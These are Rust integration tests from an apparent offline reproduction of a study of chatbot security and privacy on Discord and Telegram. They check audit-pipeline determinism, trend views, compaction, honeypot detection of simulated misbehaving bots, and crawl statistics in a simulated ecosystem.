    let eco2 = build_ecosystem(&EcosystemConfig::test_scale(50, 3));
    let pipeline = AuditPipeline::new(AuditConfig::default());
    let _ = pipeline.run_static_stages(&eco1.net);
    // eco2's clock has not moved.
    assert_eq!(eco2.net.clock().now().as_millis(), 0);
    assert!(eco1.net.clock().now().as_millis() > 0);
}
