//! The longitudinal oplog regression tier.
//!
//! A three-tenant heterogeneous fleet (two Discord worlds, one Telegram)
//! runs five drift epochs each through the always-on daemon; then the
//! chains answer every longitudinal question without replaying a single
//! audit. Four contracts, pinned for seeds 2022 and 7 at 1 vs 4 workers:
//!
//! 1. **Materialized, not recomputed** — `history()`, `trends()` and the
//!    fleet drift curves leave every `analysis.*` / `crawl.*` /
//!    `policy.*` counter exactly where the audits left them: the views
//!    are served from the persisted epoch chains alone.
//! 2. **Worker-count and replay invariance** — the canonical trend dump
//!    (flip chains, cumulative permission creep, drift curve) is
//!    byte-identical at any worker count, and byte-identical again when
//!    the same plan re-runs from scratch.
//! 3. **Compaction changes bytes, not answers** — generational pack
//!    compaction (keep the last 2 epochs) reclaims bytes from every
//!    tenant, yet the trend dump, history, and a post-compaction
//!    incremental epoch are all byte-identical to the uncompacted run.
//! 4. **Clones are state, not history** — a what-if clone of a tenant
//!    re-audits from the snapshot baseline and produces a delta against
//!    the fork point, while the original chain is untouched.

use chatbot_audit::{Audit, AuditJob, FleetDaemon, FleetDaemonConfig, PlatformKind};
use netsim::VirtualClock;
use obs::Obs;
use sched::JobSpec;
use std::sync::Arc;
use store::{Backend, MemBackend};
use synth::DriftConfig;

const BOTS: usize = 25;
const EPOCHS: u32 = 5;
const TENANTS: [(&str, PlatformKind); 3] = [
    ("acme", PlatformKind::Discord),
    ("globex", PlatformKind::Discord),
    ("initech", PlatformKind::Telegram),
];

/// Jobs report into the daemon's own [`Obs`] handle so the `analysis.*`
/// flatness assertion can see audit work and trend-view reads side by
/// side.
fn job(obs: &Obs, seed: u64, platform: PlatformKind, epoch: u32) -> AuditJob {
    Audit::builder()
        .scale(BOTS)
        .seed(seed)
        .platform(platform)
        .honeypot_sample(3)
        .site_defenses(false)
        .drift(DriftConfig::default())
        .epoch(epoch)
        .obs(obs.clone())
        .into_job()
        .expect("valid job")
}

fn fleet(workers: usize, root: Arc<dyn Backend>) -> FleetDaemon {
    FleetDaemon::with_obs(
        FleetDaemonConfig {
            workers,
            ..FleetDaemonConfig::default()
        },
        root,
        VirtualClock::new(),
        Obs::disabled(),
    )
}

/// Run the 3-tenant × 5-epoch plan and return the daemon plus its root.
fn run_fleet(seed: u64, workers: usize) -> (FleetDaemon, Arc<dyn Backend>) {
    let root: Arc<dyn Backend> = Arc::new(MemBackend::new());
    let daemon = fleet(workers, Arc::clone(&root));
    let mut deadline = 0;
    for epoch in 0..EPOCHS {
        for (i, (tenant, platform)) in TENANTS.iter().enumerate() {
            daemon
                .submit(
                    JobSpec::new(*tenant),
                    job(daemon.obs(), seed + i as u64, *platform, epoch),
                )
                .expect("admitted");
        }
        // Settle each wave before the next so every epoch diffs its
        // predecessor.
        deadline += 2_000;
        daemon.run_until(deadline);
    }
    for (tenant, _) in TENANTS {
        assert_eq!(
            daemon.history(tenant).expect("chain").len(),
            EPOCHS as usize,
            "tenant {tenant} must commit all epochs"
        );
    }
    (daemon, root)
}

/// Every longitudinal observable, canonically serialized: per-tenant
/// trend dumps + epoch lists, and the fleet-wide drift curves.
fn trend_dump(daemon: &FleetDaemon) -> String {
    let mut out = String::new();
    for (tenant, _) in TENANTS {
        let trends = daemon.trends(tenant).expect("trends");
        out.push_str(&format!("== {tenant} ==\n{}\n", trends.canonical_json()));
    }
    let fleet = daemon.fleet_trends().expect("fleet trends");
    out.push_str(&serde_json::to_string_pretty(&fleet).expect("serialize"));
    out
}

/// The analysis-side counters that would move if any audit were replayed.
fn work_counters(obs: &Obs) -> String {
    format!(
        "{}{}{}{}",
        obs.canonical_metrics("analysis."),
        obs.canonical_metrics("crawl."),
        obs.canonical_metrics("policy."),
        obs.canonical_metrics("code.")
    )
}

#[test]
fn trend_views_answer_without_replaying_audits() {
    let (daemon, _root) = run_fleet(2022, 1);
    let before = work_counters(daemon.obs());
    assert!(
        before.contains("analysis."),
        "audits must have recorded analysis work"
    );

    // History, per-tenant trends, and fleet curves — all served from the
    // materialized chains.
    let mut fleet_creep = 0;
    let mut fleet_flips = 0;
    for (tenant, _) in TENANTS {
        let history = daemon.history(tenant).unwrap();
        assert_eq!(history.first().unwrap().prev_epoch, None);
        for pair in history.windows(2) {
            assert_eq!(pair[1].prev_epoch, Some(pair[0].epoch), "chain must link");
        }
        let trends = daemon.trends(tenant).unwrap();
        assert_eq!(trends.drift_curve().len(), EPOCHS as usize);
        fleet_creep += trends.permission_creep().total_added;
        fleet_flips += trends.flipped_at_least(1).len();
    }
    assert!(fleet_creep > 0, "default drift must creep permissions");
    assert!(fleet_flips > 0, "default drift must flip traceability");
    let fleet = daemon.fleet_trends().unwrap();
    assert_eq!(fleet.len(), 2, "both platforms appear: {fleet:?}");
    assert_eq!(
        fleet.iter().map(|p| p.tenants).collect::<Vec<_>>(),
        vec![2, 1],
        "two Discord tenants, one Telegram"
    );

    assert_eq!(
        work_counters(daemon.obs()),
        before,
        "trend views must not replay any audit work"
    );
}

#[test]
fn trend_dumps_are_worker_count_and_rerun_invariant() {
    for seed in [2022, 7] {
        let (one, _) = run_fleet(seed, 1);
        let (four, _) = run_fleet(seed, 4);
        let (again, _) = run_fleet(seed, 1);
        let reference = trend_dump(&one);
        assert_eq!(
            reference,
            trend_dump(&four),
            "seed {seed}: 4 workers must not change the trend dump"
        );
        assert_eq!(
            reference,
            trend_dump(&again),
            "seed {seed}: a fresh identical run must reproduce the dump"
        );
    }
}

#[test]
fn compaction_reclaims_bytes_but_never_changes_answers() {
    for seed in [2022, 7] {
        let (daemon, root) = run_fleet(seed, 1);
        let (control, _) = run_fleet(seed, 1);
        let reference = trend_dump(&daemon);
        let histories: Vec<_> = TENANTS
            .iter()
            .map(|(t, _)| daemon.history(t).unwrap())
            .collect();

        for (tenant, _) in TENANTS {
            let outcome = daemon.compact_tenant(tenant, 2).expect("compaction");
            assert!(
                outcome.reclaimed_bytes() > 0,
                "seed {seed}: dropping 3 of 5 generations must reclaim bytes \
                 for {tenant}: {outcome:?}"
            );
            assert_eq!(outcome.kept_epochs, 2);
        }
        assert!(
            daemon
                .obs()
                .counter_value("store.compaction.reclaimed_bytes")
                > 0
        );

        // Same answers from smaller packs.
        assert_eq!(reference, trend_dump(&daemon), "seed {seed}");
        for ((tenant, _), before) in TENANTS.iter().zip(&histories) {
            assert_eq!(&daemon.history(tenant).unwrap(), before, "{tenant}");
        }

        // The next incremental epoch lands byte-identically on the
        // compacted fleet and on the never-compacted control.
        let mut fresh = Vec::new();
        for d in [&daemon, &control] {
            for (i, (tenant, platform)) in TENANTS.iter().enumerate() {
                d.submit(
                    JobSpec::new(*tenant),
                    job(d.obs(), seed + i as u64, *platform, EPOCHS),
                )
                .expect("admitted");
            }
            d.run_until(100_000);
            fresh.push(trend_dump(d));
        }
        assert_eq!(
            fresh[0], fresh[1],
            "seed {seed}: epoch {EPOCHS} must not see the compaction"
        );
        let _ = root;
    }
}

#[test]
fn clones_fork_state_without_history_and_without_touching_the_source() {
    let (daemon, _root) = run_fleet(2022, 1);
    let source_history = daemon.history("acme").unwrap();

    let genesis = daemon.clone_tenant("acme", "acme-whatif").unwrap();
    assert_eq!(genesis.epoch, EPOCHS - 1, "clone forks at the head epoch");
    let fork = daemon.history("acme-whatif").unwrap();
    assert_eq!(fork.len(), 1, "point-in-time snapshot carries no history");
    assert_eq!(
        fork[0].report_key,
        source_history.last().unwrap().report_key
    );

    // The what-if: re-audit the fork one epoch ahead. The warm pack
    // serves undrifted bots and the delta diffs against the fork point.
    let handle = daemon
        .submit(
            JobSpec::new("acme-whatif"),
            job(daemon.obs(), 2022, PlatformKind::Discord, EPOCHS),
        )
        .unwrap();
    daemon.run_until(100_000);
    let outcome = daemon.resolve(handle).expect("settled");
    assert!(
        outcome.artifact_hits > 0,
        "clone must inherit the warm pack"
    );
    let delta = outcome.delta.expect("fork point is the baseline");
    assert_eq!((delta.prev_epoch, delta.epoch), (EPOCHS - 1, EPOCHS));

    // The source chain never noticed.
    assert_eq!(daemon.history("acme").unwrap(), source_history);
}
