//! End-to-end integration: the full pipeline over a calibrated world must
//! reproduce the paper's qualitative findings.

use chatbot_audit::{
    figure3_distribution, table1_histogram, table2_traceability, table3_code_analysis,
    validate_against_truth, AuditConfig, AuditPipeline,
};
use synth::{build_ecosystem, EcosystemConfig};

fn world(n: usize, seed: u64) -> (synth::Ecosystem, Vec<chatbot_audit::AuditedBot>) {
    let eco = build_ecosystem(&EcosystemConfig {
        num_bots: n,
        seed,
        ..EcosystemConfig::default()
    });
    let pipeline = AuditPipeline::new(AuditConfig::default());
    let (bots, _) = pipeline.run_static_stages(&eco.net);
    (eco, bots)
}

#[test]
fn paper_headline_findings_hold() {
    let (_eco, bots) = world(2_500, 1);

    // ~74% valid invites.
    let valid = bots
        .iter()
        .filter(|b| b.crawled.invite_status.is_valid())
        .count();
    let valid_pct = valid as f64 / bots.len() as f64 * 100.0;
    assert!(
        (valid_pct - 74.0).abs() < 4.0,
        "valid invite rate {valid_pct:.1}%"
    );

    // "55% of chatbots … request the administrator permission".
    let rows = figure3_distribution(&bots, 25);
    let admin = rows
        .iter()
        .find(|r| r.permission == "administrator")
        .expect("admin bar present");
    assert!(
        (admin.percent - 54.86).abs() < 4.0,
        "admin {:.1}%",
        admin.percent
    );

    // send messages is the most-requested permission.
    assert_eq!(rows[0].permission, "send messages");

    // "only 4.35% of chatbots with permissions actually provide a privacy
    // policy" and none are complete.
    let t2 = table2_traceability(&bots);
    let policy_pct = t2.pct(t2.policy_link);
    assert!(
        (policy_pct - 4.35).abs() < 1.5,
        "policy link rate {policy_pct:.2}%"
    );
    assert_eq!(t2.complete, 0, "no complete traceability, as in the paper");
    assert!(t2.pct(t2.broken) > 90.0, "broken dominates");

    // Code analysis shape: JS bots check, Python bots almost never do.
    let t3 = table3_code_analysis(&bots);
    assert!(
        t3.js_checking_pct() > 60.0,
        "JS checking {:.1}%",
        t3.js_checking_pct()
    );
    assert!(
        t3.py_checking_pct() < 12.0,
        "Py checking {:.1}%",
        t3.py_checking_pct()
    );
    assert!(
        t3.js_checking_pct() > t3.py_checking_pct() * 4.0,
        "who wins must hold"
    );
}

#[test]
fn table1_long_tail_present() {
    let (_eco, bots) = world(2_500, 2);
    let rows = table1_histogram(&bots);
    let one = rows
        .iter()
        .find(|r| r.bots_per_developer == 1)
        .expect("1-bot devs exist");
    assert!(
        one.percent > 80.0,
        "single-bot developers dominate: {:.1}%",
        one.percent
    );
    assert!(
        rows.iter().any(|r| r.bots_per_developer >= 11),
        "a prolific developer exists (editid analogue)"
    );
}

#[test]
fn honeypot_catches_exactly_the_planted_misbehavers() {
    let eco = build_ecosystem(&EcosystemConfig {
        num_bots: 400,
        seed: 3,
        num_snoopers: 2,
        num_exfiltrators: 1,
        num_webhook_thieves: 1,
        captcha_every: None,
        rate_limit: None,
        email_wall_after_page: None,
        ..EcosystemConfig::default()
    });
    let pipeline = AuditPipeline::new(AuditConfig {
        honeypot_sample: 60,
        ..AuditConfig::default()
    });
    let (bots, _) = pipeline.run_static_stages(&eco.net);
    let campaign = pipeline.run_honeypot(&eco);

    // All four planted misbehavers (2 snoopers, 1 exfiltrator, 1 webhook
    // thief) sit among the most-voted 60 and every one is caught.
    assert_eq!(
        campaign.detections.len(),
        4,
        "detections: {:?}",
        campaign.detections
    );
    assert!(campaign
        .detections
        .iter()
        .any(|d| d.token_kinds == vec![honeypot::TokenKind::WebhookToken]));

    let v = validate_against_truth(&bots, &eco.truth, Some(&campaign));
    assert_eq!(v.honeypot_detection.fp, 0, "no benign bot accused");
    assert_eq!(v.honeypot_detection.fn_, 0, "no misbehaver missed");
}

#[test]
fn crawl_stats_account_for_defenses() {
    let eco = build_ecosystem(&EcosystemConfig {
        num_bots: 600,
        seed: 4,
        captcha_every: Some(100),
        email_wall_after_page: Some(5),
        ..EcosystemConfig::default()
    });
    let pipeline = AuditPipeline::new(AuditConfig::default());
    let (bots, stats) = pipeline.run_static_stages(&eco.net);
    assert_eq!(bots.len(), 600);
    assert!(stats.captchas_solved > 0, "captcha wall was hit and solved");
    assert!(stats.captcha_spend_dollars > 0.0);
    assert_eq!(stats.email_verifications, 1, "email wall passed once");
    assert!(stats.duration.as_secs() > 0, "politeness cost virtual time");
}

#[test]
fn scaling_preserves_shape() {
    // The same qualitative results at two different scales.
    for (n, seed) in [(800usize, 5u64), (1_600, 6)] {
        let (_eco, bots) = world(n, seed);
        let t2 = table2_traceability(&bots);
        assert_eq!(t2.complete, 0, "n={n}");
        // The two paper-dominant permissions lead the distribution; their
        // relative order is sampling noise (59.18% vs 54.86% planted rates),
        // so assert the top-2 set rather than the exact ranking.
        let rows = figure3_distribution(&bots, 5);
        let top2: Vec<&str> = rows.iter().take(2).map(|r| r.permission.as_str()).collect();
        assert!(top2.contains(&"send messages"), "n={n}: top2 = {top2:?}");
        assert!(top2.contains(&"administrator"), "n={n}: top2 = {top2:?}");
    }
}
