//! Contract tests for the audit facade's error surface.
//!
//! Two things external callers depend on:
//!
//! 1. [`Audit::builder`] rejects every inconsistent knob combination at
//!    build time with [`ErrorKind::Config`] — never at run time.
//! 2. [`ErrorKind::as_str`] is a pinned, documented set of strings: coarse
//!    handlers and log pipelines match on them, so they may grow but never
//!    change.

use chatbot_audit::{Audit, AuditError, ErrorKind};

#[test]
fn builder_rejects_every_invalid_knob_with_a_config_error() {
    let cases: Vec<(&str, Result<Audit, AuditError>)> = vec![
        ("zero bots", Audit::builder().scale(0).build()),
        (
            "zero page size",
            Audit::builder().scale(10).page_size(0).build(),
        ),
        (
            "zero max pages",
            Audit::builder().scale(10).max_pages(0).build(),
        ),
        (
            "oversampled honeypot",
            Audit::builder().scale(10).honeypot_sample(11).build(),
        ),
        (
            "empty guilds",
            Audit::builder().scale(10).personas_per_guild(0).build(),
        ),
        (
            "unknown platform tag",
            Audit::builder().scale(10).platform_named("slack").build(),
        ),
        (
            "crawl pointed at the other platform's directory",
            Audit::builder()
                .scale(10)
                .platform(chatbot_audit::PlatformKind::Telegram)
                .list_host("top.gg.sim")
                .build(),
        ),
        (
            "least-privilege delivery on telegram",
            Audit::builder()
                .scale(10)
                .platform(chatbot_audit::PlatformKind::Telegram)
                .least_privilege(true)
                .build(),
        ),
    ];
    for (label, result) in cases {
        let err = result.err().unwrap_or_else(|| panic!("{label}: accepted"));
        assert_eq!(err.kind(), ErrorKind::Config, "{label}");
        assert_eq!(err.kind().as_str(), "config", "{label}");
        assert!(
            err.to_string().starts_with("invalid audit configuration:"),
            "{label}: {err}"
        );
    }
}

#[test]
fn platform_validation_is_fail_fast_and_lenient_where_it_should_be() {
    // Known tags parse and retarget the crawl before any network exists.
    for (tag, kind) in [
        ("discord", chatbot_audit::PlatformKind::Discord),
        ("telegram", chatbot_audit::PlatformKind::Telegram),
    ] {
        let audit = Audit::builder()
            .scale(10)
            .honeypot_sample(2)
            .platform_named(tag)
            .build()
            .unwrap_or_else(|e| panic!("{tag}: {e}"));
        assert_eq!(audit.ecosystem_config().platform, kind);
        assert_eq!(audit.config().crawl.platform, kind);
    }
    // A custom mirror host is fine — only the *other* platform's canonical
    // directory is a mismatch.
    assert!(Audit::builder()
        .scale(10)
        .honeypot_sample(2)
        .platform(chatbot_audit::PlatformKind::Telegram)
        .list_host("mirror.tdirectory.sim")
        .build()
        .is_ok());
    // The unknown-tag error names the offending tag and the valid set.
    let err = Audit::builder()
        .scale(10)
        .platform_named("slack")
        .build()
        .unwrap_err();
    let msg = err.to_string();
    assert!(msg.contains("slack"), "{msg}");
    assert!(msg.contains("discord") && msg.contains("telegram"), "{msg}");
}

#[test]
fn into_job_applies_the_same_validation_as_build() {
    let err = Audit::builder().scale(0).into_job().unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Config);
    assert!(Audit::builder()
        .scale(10)
        .honeypot_sample(2)
        .into_job()
        .is_ok());
}

#[test]
fn error_kind_strings_are_pinned() {
    // This table IS the contract (documented on `ErrorKind::as_str`). A
    // failure here means a breaking change for everyone matching on kind
    // strings — don't rename, add.
    let pinned = [
        (ErrorKind::Config, "config"),
        (ErrorKind::Platform, "platform"),
        (ErrorKind::Net, "net"),
        (ErrorKind::Store, "store"),
        (ErrorKind::Locate, "locate"),
        (ErrorKind::Interrupted, "interrupted"),
        (ErrorKind::Saturated, "saturated"),
    ];
    for (kind, name) in pinned {
        assert_eq!(kind.as_str(), name);
        assert_eq!(kind.to_string(), name, "Display must match as_str");
    }
}

#[test]
fn every_error_variant_maps_to_a_distinct_stable_kind() {
    use sched::Rejection;
    let saturated: AuditError = Rejection::QueueFull { capacity: 1 }.into();
    assert_eq!(saturated.kind(), ErrorKind::Saturated);
    let rate: AuditError = Rejection::RateLimited {
        tenant: "t".into(),
        retry_after_ms: 9,
    }
    .into();
    assert_eq!(rate.kind(), ErrorKind::Saturated);
    // The rejection payload survives the conversion for callers that need
    // retry_after_ms.
    match rate {
        AuditError::Saturated(Rejection::RateLimited { retry_after_ms, .. }) => {
            assert_eq!(retry_after_ms, 9)
        }
        other => panic!("wrong variant: {other}"),
    }
}
