//! Cross-crate flow: a bot listed on the site is discovered by the
//! crawler, its invite decoded, installed on the platform, and then
//! operated through the SDK — the whole ecosystem in one story.

use botsdk::{BenignBehavior, Bot, BotRunner};
use crawler::crawl::{crawl_listing, CrawlConfig};
use crawler::invite::InviteStatus;
use discord_sim::oauth::InviteUrl;
use discord_sim::{GuildVisibility, Permissions};
use netsim::http::Url;
use synth::{build_ecosystem, EcosystemConfig};

#[test]
fn listed_bot_can_be_discovered_and_installed() {
    let eco = build_ecosystem(&EcosystemConfig::test_scale(100, 21));

    // Discover via the crawler, exactly as the measurement does.
    let (crawled, _) = crawl_listing(&eco.net, &CrawlConfig::default());
    let target = crawled
        .iter()
        .find(|b| b.invite_status.is_valid())
        .expect("some bot has a valid invite");
    let InviteStatus::Valid { permissions, .. } = &target.invite_status else {
        unreachable!()
    };

    // A user who read the listing installs the bot into their own guild.
    let user = eco.platform.register_user("enduser#1", "e@x.y");
    let guild = eco
        .platform
        .create_guild(user, "my-server", GuildVisibility::Private)
        .expect("user exists");
    let invite_url = Url::parse(&target.scraped.invite_link).expect("valid link parses");
    let invite = InviteUrl::parse(&invite_url).expect("valid oauth link");
    assert_eq!(
        &invite.permissions, permissions,
        "crawler decoded what the page requests"
    );

    let bot_user = eco
        .platform
        .install_bot(user, guild, &invite, true)
        .expect("install succeeds");

    // The managed role carries exactly the requested permissions.
    let g = eco.platform.guild(guild).expect("guild");
    let member = g.member(bot_user).expect("bot is a member");
    let role = g.role(member.roles[0]).expect("managed role");
    assert_eq!(role.permissions, *permissions);

    // And the bot account works through the SDK.
    let bot = Bot::connect(
        eco.platform.clone(),
        eco.net.clone(),
        bot_user,
        "installed-bot",
        Box::new(BenignBehavior::new("fun")),
    )
    .expect("gateway connects");
    let mut runner = BotRunner::new();
    runner.add(bot);

    let channel = eco.platform.default_channel(guild).expect("has #general");
    eco.platform
        .send_message(user, channel, "!ping", vec![])
        .expect("user can chat");
    runner.run_until_idle();
    let history = eco
        .platform
        .read_history(user, channel)
        .expect("user reads");
    assert_eq!(history.last().expect("bot replied").content, "pong");
}

#[test]
fn consent_screen_matches_scraped_permissions() {
    let eco = build_ecosystem(&EcosystemConfig::test_scale(60, 22));
    let (crawled, _) = crawl_listing(&eco.net, &CrawlConfig::default());

    for bot in crawled
        .iter()
        .filter(|b| b.invite_status.is_valid())
        .take(10)
    {
        let InviteStatus::Valid { permissions, .. } = &bot.invite_status else {
            unreachable!()
        };
        // Fetch the consent screen the way a human would.
        let mut client = netsim::HttpClient::new(
            eco.net.clone(),
            netsim::ClientConfig::impolite("human-browser"),
        );
        let url = Url::parse(&bot.scraped.invite_link).expect("parses");
        let page = client.get(url).expect("reachable").text();
        for name in permissions.names() {
            assert!(
                page.contains(name),
                "consent screen for {} missing {name}",
                bot.scraped.name
            );
        }
    }
}

#[test]
fn admin_bot_reads_channels_users_cannot() {
    // The §4.2 admin risk, across crates: install an admin bot from a
    // listing, lock a channel down, and watch the bot still read it.
    let eco = build_ecosystem(&EcosystemConfig::test_scale(100, 23));
    let admin_listing = eco
        .truth
        .valid_bots()
        .find(|b| {
            b.permissions
                .map(|p| p.contains(Permissions::ADMINISTRATOR))
                .unwrap_or(false)
        })
        .expect("calibration plants many admin bots");

    let user = eco.platform.register_user("owner#9", "o@x.y");
    let guild = eco
        .platform
        .create_guild(user, "locked", GuildVisibility::Private)
        .expect("user");
    let channel = eco.platform.default_channel(guild).expect("channel");
    let bot_user = eco
        .platform
        .install_bot(
            user,
            guild,
            &InviteUrl::bot(
                admin_listing.client_id,
                admin_listing.permissions.expect("valid"),
            ),
            true,
        )
        .expect("install");

    // Lock the channel for @everyone.
    let everyone = eco.platform.guild(guild).expect("g").everyone_role;
    let stripped = Permissions::NONE;
    eco.platform
        .edit_role(user, guild, everyone, stripped)
        .expect("owner edits");

    let alice = eco.platform.register_user("alice#7", "a@x.y");
    let code = eco.platform.create_invite(user, guild).expect("owner");
    eco.platform
        .join_guild(alice, guild, Some(&code))
        .expect("invited");

    // Alice cannot read; the admin bot can.
    assert!(eco.platform.read_history(alice, channel).is_err());
    assert!(eco.platform.read_history(bot_user, channel).is_ok());
}
