//! Calibration golden values.
//!
//! EXPERIMENTS.md publishes measured numbers for the default seed. This
//! test pins a small-scale fingerprint of the same generation stream: if it
//! fails, the calibrated world changed (an RNG-order or distribution
//! change) and **EXPERIMENTS.md must be regenerated** with
//! `cargo run -p bench --bin experiments --release`.

use chatbot_audit::{table2_traceability, table3_code_analysis, AuditConfig, AuditPipeline};
use crawler::invite::InviteStatus;
use synth::{build_ecosystem, EcosystemConfig, InviteClass};

#[test]
fn seed_2022_world_fingerprint() {
    let eco = build_ecosystem(&EcosystemConfig {
        num_bots: 2_000,
        seed: 2022,
        ..EcosystemConfig::default()
    });
    let pipeline = AuditPipeline::new(AuditConfig::default());
    let (bots, _) = pipeline.run_static_stages(&eco.net);

    let valid = bots
        .iter()
        .filter(|b| b.crawled.invite_status.is_valid())
        .count();
    let t2 = table2_traceability(&bots);
    let t3 = table3_code_analysis(&bots);

    // Golden fingerprint for (seed=2022, n=2000). If any of these change,
    // regenerate EXPERIMENTS.md — the published numbers have drifted.
    assert_eq!(valid, 1_496, "valid invites");
    assert_eq!(t2.website_link, 598, "website links");
    assert_eq!(t2.policy_link, 54, "policy links");
    assert_eq!(t2.complete, 0, "complete traceability stays zero");
    assert_eq!(t3.with_github_link, 359, "github links");
    assert_eq!(t3.valid_repos, 201, "valid repos");
}

#[test]
fn invite_breakdown_matches_planted_classes_exactly() {
    let eco = build_ecosystem(&EcosystemConfig::test_scale(1_200, 2022));
    let pipeline = AuditPipeline::new(AuditConfig::default());
    let (bots, _) = pipeline.run_static_stages(&eco.net);

    let planted = |class: InviteClass| {
        eco.truth
            .bots
            .iter()
            .filter(|b| b.invite_class == class)
            .count()
    };
    let measured = |f: &dyn Fn(&InviteStatus) -> bool| {
        bots.iter().filter(|b| f(&b.crawled.invite_status)).count()
    };

    // Every planted failure mode is recovered as the matching measurement
    // class — the full confusion matrix is diagonal.
    assert_eq!(
        measured(&|s| matches!(s, InviteStatus::Valid { .. })),
        planted(InviteClass::Valid)
    );
    assert_eq!(
        measured(&|s| *s == InviteStatus::Removed),
        planted(InviteClass::Removed)
    );
    assert_eq!(
        measured(&|s| *s == InviteStatus::MalformedLink),
        planted(InviteClass::Malformed)
    );
    assert_eq!(
        measured(&|s| *s == InviteStatus::DeadLink),
        planted(InviteClass::DeadRedirect)
    );
    assert_eq!(
        measured(&|s| *s == InviteStatus::TimedOut),
        planted(InviteClass::SlowRedirect)
    );
}
