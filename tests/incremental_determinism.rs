//! The incremental-crawl regression tier.
//!
//! Three contracts over the conditional-fetch pipeline, one layer above
//! the crawler's own unit tests:
//!
//! 1. Differential: a warm re-audit — validator cache armed, `/changed`
//!    feed consumed, unchanged pages answered with 304s — produces a
//!    report byte-identical to a cold from-scratch audit of the same
//!    epoch, for seeds 2022 and 7, at 1 and 4 workers.
//! 2. Fault: a listing site whose validators lie (304 for pages that
//!    drifted underneath) cannot poison the report. The crawl detects the
//!    lie, falls back to full fetches, and still matches the cold audit.
//! 3. Ledger arithmetic: the warm crawl scores exactly one validator hit
//!    per reused logical page — every list page plus every bot the drift
//!    ledger did not name. No more (nothing reused twice), no less
//!    (nothing refetched that could have been 304'd).

use chatbot_audit::{Audit, AuditJob, FleetConfig, FleetService};
use obs::Obs;
use sched::JobSpec;
use synth::{build_ecosystem_at, DriftConfig, EcosystemConfig};

const BOTS: usize = 60;

fn job(seed: u64, epoch: u32, stale: bool) -> AuditJob {
    Audit::builder()
        .scale(BOTS)
        .seed(seed)
        .honeypot_sample(6)
        .site_defenses(false)
        .drift(DriftConfig::default())
        .epoch(epoch)
        .stale_validators(stale)
        .into_job()
        .expect("valid job")
}

/// Epoch 0 then epoch 1 on one tenant (the epoch-1 pass runs warm against
/// the tenant's validator cache), plus a cold epoch-1 audit on a fresh
/// tenant. Returns both epoch-1 reports serialized.
fn warm_vs_cold(seed: u64, workers: usize, stale: bool) -> (String, String) {
    let service = FleetService::new(FleetConfig {
        workers,
        ..FleetConfig::default()
    });
    service
        .submit(JobSpec::new("acme"), job(seed, 0, stale))
        .expect("submit epoch 0");
    service.run();
    service
        .submit(JobSpec::new("acme"), job(seed, 1, stale))
        .expect("submit warm epoch 1");
    let warm = service.run().remove(0);

    let fresh = FleetService::new(FleetConfig {
        workers,
        ..FleetConfig::default()
    });
    fresh
        .submit(JobSpec::new("other"), job(seed, 1, stale))
        .expect("submit cold epoch 1");
    let cold = fresh.run().remove(0);

    (
        serde_json::to_string(warm.report.as_ref().expect("warm audit completes")).unwrap(),
        serde_json::to_string(cold.report.as_ref().expect("cold audit completes")).unwrap(),
    )
}

#[test]
fn incremental_report_matches_cold_at_any_worker_count() {
    for seed in [2022u64, 7] {
        let mut per_worker = Vec::new();
        for workers in [1usize, 4] {
            let (warm, cold) = warm_vs_cold(seed, workers, false);
            assert_eq!(
                warm, cold,
                "seed {seed} workers {workers}: incremental re-audit diverged from cold"
            );
            per_worker.push(warm);
        }
        assert_eq!(
            per_worker[0], per_worker[1],
            "seed {seed}: worker count changed the bytes"
        );
    }
}

#[test]
fn lying_validators_cannot_poison_the_report() {
    let seed = 2022;

    // Instrumented warm pass against the faulty site: the drift ledger
    // names the changed bots, the site 304s their probes anyway.
    let obs = Obs::disabled();
    let service = FleetService::new(FleetConfig::default());
    service
        .submit(JobSpec::new("acme"), job(seed, 0, true))
        .expect("submit epoch 0");
    service.run();
    let stale_job = Audit::builder()
        .scale(BOTS)
        .seed(seed)
        .honeypot_sample(6)
        .site_defenses(false)
        .drift(DriftConfig::default())
        .epoch(1)
        .stale_validators(true)
        .obs(obs.clone())
        .into_job()
        .expect("valid job");
    service
        .submit(JobSpec::new("acme"), stale_job)
        .expect("submit warm epoch 1");
    let warm = service.run().remove(0);
    assert!(
        obs.counter_value("crawl.validator_stale") > 0,
        "the faulty 304s must be detected, not silently trusted"
    );

    // The cold audit never sends `if-none-match`, so the fault cannot
    // touch it — it is the ground truth the warm report must match.
    let fresh = FleetService::new(FleetConfig::default());
    fresh
        .submit(JobSpec::new("other"), job(seed, 1, true))
        .expect("submit cold epoch 1");
    let cold = fresh.run().remove(0);
    assert_eq!(
        serde_json::to_string(warm.report.as_ref().expect("warm audit completes")).unwrap(),
        serde_json::to_string(cold.report.as_ref().expect("cold audit completes")).unwrap(),
        "stale validators leaked stale bytes into the report"
    );
}

#[test]
fn validator_hits_equal_reused_pages_exactly() {
    let seed = 2022;

    // The drift model's own ledger: which bots changed crawl-visibly at
    // epoch 1. Everything else must be served by a 304.
    let eco_cfg = EcosystemConfig::test_scale(BOTS, seed);
    let (_, epochs) = build_ecosystem_at(&eco_cfg, &DriftConfig::default(), 1);
    let drifted = epochs
        .iter()
        .find(|e| e.epoch == 1)
        .expect("epoch 1 ledger")
        .content_drifted();
    assert!(
        !drifted.is_empty() && drifted.len() < BOTS,
        "default drift must move some but not all of {BOTS} bots (moved {})",
        drifted.len()
    );

    let obs = Obs::disabled();
    let service = FleetService::new(FleetConfig::default());
    service
        .submit(JobSpec::new("acme"), job(seed, 0, false))
        .expect("submit epoch 0");
    service.run();
    let warm_job = Audit::builder()
        .scale(BOTS)
        .seed(seed)
        .honeypot_sample(6)
        .site_defenses(false)
        .drift(DriftConfig::default())
        .epoch(1)
        .obs(obs.clone())
        .into_job()
        .expect("valid job");
    service
        .submit(JobSpec::new("acme"), warm_job)
        .expect("submit warm epoch 1");
    let warm = service.run().remove(0);
    let report = warm.report.as_ref().expect("warm audit completes");

    // One hit per reused logical page: every list page (the listing order
    // does not drift) plus every bot the ledger did not name.
    assert_eq!(
        obs.counter_value("crawl.validator_hits"),
        report.pages as u64 + (BOTS - drifted.len()) as u64,
        "validator hits must equal list pages + undrifted bots"
    );
    assert!(
        obs.counter_value("crawl.changed_pages") >= 1,
        "the warm pass must consume the paginated /changed feed"
    );
    assert!(
        obs.counter_value("crawl.fetched_full") >= drifted.len() as u64,
        "every drifted bot costs at least one full fetch"
    );
    // A bot whose drift lives off the detail page (its website's policy
    // moved) 304s the detail probe while the ledger names it changed —
    // counted stale, refetched in full. Never more than the ledger names.
    assert!(obs.counter_value("crawl.validator_stale") <= drifted.len() as u64);
}
