//! # chatbot-audit-repro
//!
//! A full, offline reproduction of **"Exploring the Security and Privacy
